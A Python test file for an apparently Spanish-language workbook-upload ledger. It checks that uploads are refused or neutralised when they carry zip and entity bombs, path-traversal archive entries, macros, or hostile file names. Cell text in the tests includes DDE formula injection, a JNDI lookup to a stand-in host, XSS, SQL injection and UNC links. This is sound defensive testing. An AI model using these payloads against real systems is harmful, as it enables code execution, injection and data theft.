"""Whatever is uploaded gets an answer and never an effect: read, told or kept as plain text."""

from __future__ import annotations

import builtins
import io
import os
import tempfile
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from pac.ledger import store, update
from pac.model import Severity
from pac.reading.reader import File
from tests.reading.test_broken_input import entity_bomb, zip_bomb
from tests.updates import (
    APRIL,
    AT,
    AUGUST,
    EVIDENCE,
    OPERATOR,
    PLAN,
    REPORTS,
    VALUE,
    accepted,
    begun,
    edited,
    errors,
    kinds,
    only_tracking,
    own_workbook,
    report,
    small_book,
    upload,
    value_of,
)
from tests.workbooks import activity, book

SECONDS = 15.0  # of the processor, however busy the machine is; the slowest takes four


@pytest.fixture
def ledger(tmp_path):
    ledger = begun(tmp_path)
    yield ledger
    ledger.close()


def as_it_is(_name: str, part: bytes) -> bytes:
    return part


def rezipped(data: bytes, change=as_it_is, **more: bytes) -> bytes:
    """Return a workbook with its parts changed and others added; __ stands for a slash."""
    source, stream = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            archive.writestr(item.filename, change(item.filename, source.read(item)))
        for name, part in more.items():
            archive.writestr(name.replace("__", "/"), part)
    return stream.getvalue()


def as_text(*sheets: str):
    """Return the edit that makes text of what openpyxl took for formulas."""

    def edit(workbook: Workbook) -> None:
        for name in sheets:
            for row in workbook[name].iter_rows(min_row=2):
                for cell in row:
                    if cell.data_type == "f":
                        cell.data_type = "s"

    return edit


REFUSED = {
    "nothing": (b"", "empty_file"),
    "a zip bomb": (zip_bomb(), "zip_bomb"),
    "an entity bomb": (entity_bomb(), "broken_file"),
    "200 MB": (b"PK\3\4" + bytes(200 * 2**20), "too_large"),
    "another program's file": (b"MZ" + bytes(1000), "not_xlsx"),
    "a page": (b"<html><script>alert(1)</script></html>", "not_xlsx"),
    "a zip of anything": (rezipped(small_book())[:300], "broken_file"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_no_sound_workbook_is_refused_soon_with_one_reason(name, ledger):
    data, code = REFUSED[name]

    started = time.process_time()
    proposal = upload(ledger, data)

    assert time.process_time() - started < SECONDS
    assert [one[0] for one in errors(proposal)] == [code]
    assert (proposal.stopped_at, proposal.workbook) == (1, None)
    with pytest.raises(update.Blocked):
        update.commit(ledger, OPERATOR, proposal, at=AT)


def many_rows(count: int) -> bytes:
    """Return a book of reports with so many rows, made without a library that takes minutes."""
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>C1-01</t></is></c><c r="D{n}"><v>1</v></c>'
        "</row>"
        for n in range(2, count + 2)
    )

    def change(name: str, part: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return part
        return part.replace(b"</sheetData>", rows.encode() + b"</sheetData>")

    return rezipped(only_tracking(), change)


def test_three_hundred_thousand_rows_are_answered_soon(ledger):
    data = many_rows(300_000)

    started = time.process_time()
    proposal = upload(ledger, data)

    assert time.process_time() - started < SECONDS
    assert "too_many_rows" in [one[0] for one in errors(proposal)]


def test_a_value_in_the_last_cell_of_a_sheet_costs_nothing(ledger):
    def far(workbook):
        workbook["Seguimiento"]["XFD1048576"] = "x"

    started = time.process_time()
    proposal = upload(ledger, edited(only_tracking(report("C2-02", AUGUST, 1)), far))

    assert time.process_time() - started < SECONDS
    assert proposal.errors or kinds(proposal) == [("progress_reported", "C2-02")]


# What comes inside a sound workbook

FORMULAS = (
    '=HYPERLINK("https://malo.invalid";"Acta")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "**negrita** [enlace](javascript:alert(1)) `x` $x^2$ :red[x]",
    "{{ 7*7 }} ${jndi:ldap://malo.invalid/a} %(x)s {0} {found}",
    "'; DROP TABLE versions; --",
)


@pytest.mark.parametrize("text", [*FORMULAS, *MARKUP])
def test_text_that_would_do_something_elsewhere_stays_the_text_it_is(text, ledger):
    row = report("C2-02", AUGUST, 1) | {"Qué se hizo": text, EVIDENCE: text, "Observaciones": text}
    data = edited(only_tracking(row), as_text("Seguimiento"))

    accepted(ledger, data)

    for field in ("done", "evidence", "remarks"):
        assert value_of(ledger, "C2-02", AUGUST, field) == " ".join(text.split())
    for sheet in load_workbook(io.BytesIO(own_workbook(ledger))):
        for line in sheet.iter_rows():
            assert all(one.data_type != "f" and one.hyperlink is None for one in line)
    assert kinds(upload(ledger, own_workbook(ledger))) == []
    assert store.verify(ledger) == ()


def test_such_text_in_the_plan_and_its_settings_stays_text_too(ledger):
    plan = [activity(ID=f"C9-{n:02d}", Componente="9. <b>Nueve</b>", Actividad=f"Hacer {text}",
                     Indicador=text, Estrategia=text, Responsable=text)
            for n, text in enumerate((*FORMULAS, *MARKUP), 1)]  # fmt: skip
    data = book([*PLAN, *plan], REPORTS, {"Cargo de quien firma": "=1+1"},
                then=as_text("Plan", "Parámetros"))  # fmt: skip

    proposal = upload(ledger, data)

    assert errors(proposal) == []
    assert len(kinds(proposal)) == len(plan) + 1
    for sheet in load_workbook(io.BytesIO(proposal.workbook.data)):
        assert all(one.data_type != "f" for line in sheet.iter_rows() for one in line)
    assert all("{" not in one.fix for one in proposal.findings)


@pytest.mark.parametrize(
    "formula", ['=HYPERLINK("https://malo.invalid","Acta")', "=WEBSERVICE(A1)"]
)
def test_a_formula_without_its_value_is_told_at_its_cell(formula, ledger):
    row = report("C2-02", AUGUST, 1) | {EVIDENCE: formula}

    assert errors(upload(ledger, only_tracking(row))) == [
        ("formula_without_value", "a.xlsx", "Seguimiento!G2")
    ]


def test_an_external_link_counts_by_the_value_that_excel_stored(ledger):
    def link(name: str, part: bytes) -> bytes:
        if name == "xl/worksheets/sheet1.xml":
            return part.replace(b"<v>0.75</v>", b"<f>[1]Hoja1!$A$1</f><v>0.75</v>")
        return part

    data = only_tracking(report("C2-02", AUGUST, 0.75))
    linked = rezipped(
        data, link, xl__externalLinks__externalLink1=b"<a href='\\\\malo.invalid\\c$'/>"
    )
    accepted(ledger, linked)

    assert value_of(ledger, "C2-02", AUGUST) == 0.75
    assert not [n for n in parts_of(own_workbook(ledger)) if "external" in n.lower()]


def parts_of(data: bytes) -> list[str]:
    return zipfile.ZipFile(io.BytesIO(data)).namelist()


def test_macros_and_other_parts_do_not_travel_into_the_board(ledger):
    data = rezipped(
        edited(own_workbook(ledger), lambda workbook: workbook.create_sheet("Oculta")),
        **{"xl__vbaProject.bin": b"Sub AutoOpen()", "xl__embeddings__oleObject1.bin": b"MZ"},
    )
    accepted(ledger, data, only_tracking(report("C2-02", AUGUST, 1)))

    ours = own_workbook(ledger)
    assert not [n for n in parts_of(ours) if n.endswith(".bin")]
    assert "Oculta" not in load_workbook(io.BytesIO(ours)).sheetnames
    stored = update.board(ledger).version.uploads[0]
    assert store.file(ledger, stored.sha256) == data  # as it came, for whoever checks


def test_parts_that_name_other_folders_are_never_unpacked(ledger, tmp_path):
    data = rezipped(
        only_tracking(report("C2-02", AUGUST, 1)),
        **{"..__..__escapado.txt": b"x", "__tmp__escapado.txt": b"x"},
    )

    assert kinds(upload(ledger, data)) == [("progress_reported", "C2-02")]
    assert not list(tmp_path.rglob("escapado*"))


@pytest.mark.parametrize("link", ["javascript:alert(1)", "data:text/html,<script>", "vbscript:x"])
def test_a_link_that_runs_is_kept_as_text_and_is_no_link_in_the_book(link, ledger):
    def hyperlink(workbook):
        cell = workbook["Seguimiento"]["G2"]
        cell.hyperlink = link
        cell.value = link

    row = report("C2-02", AUGUST, 1) | {EVIDENCE: link}
    accepted(ledger, edited(only_tracking(row), hyperlink))

    assert value_of(ledger, "C2-02", AUGUST, "evidence") == link
    sheet = load_workbook(io.BytesIO(own_workbook(ledger)))["Seguimiento"]
    assert not [cell for line in sheet.iter_rows() for cell in line if cell.hyperlink]


@pytest.mark.parametrize("place", [r"C:\Users\ana\acta.pdf", r"\\servidor\actas\1.pdf"])
def test_an_evidence_that_nobody_can_open_is_a_warning_and_blocks_nothing(place, ledger):
    proposal = upload(ledger, only_tracking(report("C2-02", AUGUST, 1) | {EVIDENCE: place}))

    assert proposal.acceptable
    assert [one.code for one in proposal.loud(Severity.WARNING)] == ["evidence_unreachable"]


# Names

NAMES = {
    "../../etc/cron.d/plan.xlsx": "plan.xlsx",
    r"C:\Users\ana\plan.xlsx": "plan.xlsx",
    r"..\..\app.py": "app.py",
    "plan.pdf.xlsx": "plan.pdf.xlsx",
    "plan.xlsx.exe": "plan.xlsx.exe",
    "..": "libro.xlsx",
    "carpeta/": "libro.xlsx",
    "<script>alert(1)</script>.xlsx": "script>.xlsx",
    "a" * 300 + ".xlsx": "a" * 115 + ".xlsx",
    "pl\0an\n.xlsx": "plan.xlsx",
    "plan\N{RIGHT-TO-LEFT OVERRIDE}xslx.exe": "planxslx.exe",
}


@pytest.mark.parametrize("name", NAMES)
def test_a_name_names_no_folder_and_its_ending_means_nothing(name, ledger):
    file = File(name, only_tracking(report("C2-02", AUGUST, 1)))
    proposal = update.propose(ledger, [file])
    version = update.commit(ledger, OPERATOR, proposal, at=AT)

    assert [one.name for one in version.uploads] == [NAMES[name]]
    assert version.workbook.name == "PAAC_2023_prueba_libro.xlsx"


def test_an_entity_names_no_folder_in_the_boards_file(tmp_path):
    ledger = begun(tmp_path, book(PLAN, parameters={"Entidad": "../../<b>Alcaldía</b>\\x"}))
    name = update.board(ledger).file.name

    assert name.isascii()
    assert not set(name) & set('/\\<>:"| ')


def test_a_file_of_every_kind_at_once_names_each_that_is_bad_and_changes_nothing(ledger):
    proposal = upload(
        ledger, entity_bomb(), only_tracking(report("C2-02", AUGUST, 1)), b"%PDF-1.7", small_book()
    )

    assert [one[:2] for one in errors(proposal)] == [
        ("broken_file", "a.xlsx"),
        ("not_xlsx", "c.xlsx"),
    ]
    assert update.board(ledger).number == 1


# Effects


def test_nothing_of_an_upload_is_written_beside_the_ledger(ledger, tmp_path, monkeypatch):
    """What comes stays in memory and in the ledger.

    The library that writes workbooks keeps each of our sheets in a nameless file while it does.
    """
    written = []
    real_open, real_os_open = builtins.open, os.open

    def watched(file, mode="r", *args, **more):
        if set(mode) & set("wax+") and not isinstance(file, int):
            written.append(Path(file))
        return real_open(file, mode, *args, **more)

    def watched_os(path, flags, *args, **more):
        if flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
            written.append(Path(path))
        return real_os_open(path, flags, *args, **more)

    data = rezipped(own_workbook(ledger), **{"..__x.txt": b"x", "xl__vbaProject.bin": b"x"})
    drafts = tmp_path / "drafts"
    drafts.mkdir()
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(tempfile, "tempdir", str(drafts))
    monkeypatch.setattr(builtins, "open", watched)
    monkeypatch.setattr(io, "open", watched)
    monkeypatch.setattr(os, "open", watched_os)
    outside = str(tmp_path.parent / "y.xlsx")
    files = [File("../x.xlsx", data), File(outside, only_tracking(report("C1-01", APRIL, 2)))]
    proposal = update.propose(ledger, files)
    update.commit(ledger, OPERATOR, proposal, at=AT, reasons={"*": "Acta 3"})
    monkeypatch.undo()

    assert all(path == drafts or path.parent == drafts for path in written)
    assert list(drafts.iterdir()) == []
    names = {path.name for path in tmp_path.iterdir()}
    assert names <= {"drafts", "tablero.sqlite", "tablero.sqlite-wal", "tablero.sqlite-shm"}


def test_a_note_and_reasons_are_kept_as_text_and_cut_to_a_length(ledger):
    proposal = upload(ledger, only_tracking(report("C1-01", AUGUST, 0.5)))
    version = update.commit(
        ledger, OPERATOR, proposal, at=AT, note="<b>x</b>" * 2000,
        reasons={"*": "<script>" * 2000},
    )  # fmt: skip

    assert version.note.startswith("<b>x</b>")
    assert len(version.note) <= 2000
    assert all(len(one) <= 2000 for one in version.content["reasons"].values())
    assert VALUE not in version.note
